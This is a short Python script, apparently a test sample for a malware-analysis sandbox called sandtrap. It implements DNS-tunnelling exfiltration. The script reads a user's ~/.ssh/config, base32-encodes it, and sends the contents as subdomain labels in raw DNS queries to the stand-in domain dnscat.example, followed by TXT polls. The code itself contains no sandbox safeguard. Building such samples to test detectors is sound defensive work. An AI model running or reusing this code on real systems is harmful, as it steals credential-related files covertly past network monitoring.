#!/usr/bin/python3
# DNS tunnelling: base32-encodes the ssh config and sends it as long subdomain labels in raw UDP DNS queries, plus TXT polls.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import base64, os, random, socket, struct

def query(name, qtype=1):
    q = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    ns = "127.0.0.53"
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            ns = line.split()[1]
            break
    s.sendto(q, (ns, 53))
    try:
        s.recv(512)
    except OSError:
        pass

data = open("/home/dmitchell/.ssh/config", "rb").read()
enc = base64.b32encode(data).decode().rstrip("=").lower()
n = 0
for i in range(0, len(enc), 56):
    query("%s.%d.x.dnscat.example" % (enc[i:i + 56], i // 56))
    n += 1
for i in range(5):
    query("%s.poll.dnscat.example" % os.urandom(20).hex(), 16)
    n += 1
print("queries", n)
